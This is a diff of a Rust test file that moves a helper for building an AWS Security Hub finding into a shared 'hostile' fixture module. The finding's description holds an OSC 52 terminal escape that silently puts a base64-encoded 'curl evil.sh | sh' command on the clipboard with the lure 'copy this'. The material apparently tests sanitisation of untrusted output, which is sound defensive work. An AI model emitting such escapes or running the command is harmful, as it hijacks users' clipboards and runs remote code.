@@ -5,24 +5,12 @@
 use assert_cmd::Command;
 use serde_json::{json, Value};
 
+#[path = "common/hostile.rs"]
+mod hostile_asff;
+
+/// The hostile findings' description: an OSC 52 clipboard write.
 fn finding(id: &str, title: String, resources: Vec<Value>) -> Value {
-    json!({
-        "SchemaVersion": "2018-10-08",
-        "Id": id,
-        "ProductArn": "arn:aws:securityhub:eu-west-1::product/aws/securityhub",
-        "GeneratorId": "security-control/EC2.13",
-        "AwsAccountId": "111111111111",
-        "Region": "eu-west-1",
-        "CreatedAt": "2026-11-01T10:00:00Z",
-        "UpdatedAt": "2026-11-20T10:00:00Z",
-        "Severity": {"Label": "HIGH"},
-        "Title": title,
-        "Description": "\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7}copy this",
-        "Compliance": {"Status": "FAILED", "SecurityControlId": "EC2.13"},
-        "Workflow": {"Status": "NEW"},
-        "RecordState": "ACTIVE",
-        "Resources": resources
-    })
+    hostile_asff::finding(id, title, "\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7}copy this".into(), resources)
 }
 
 #[test]
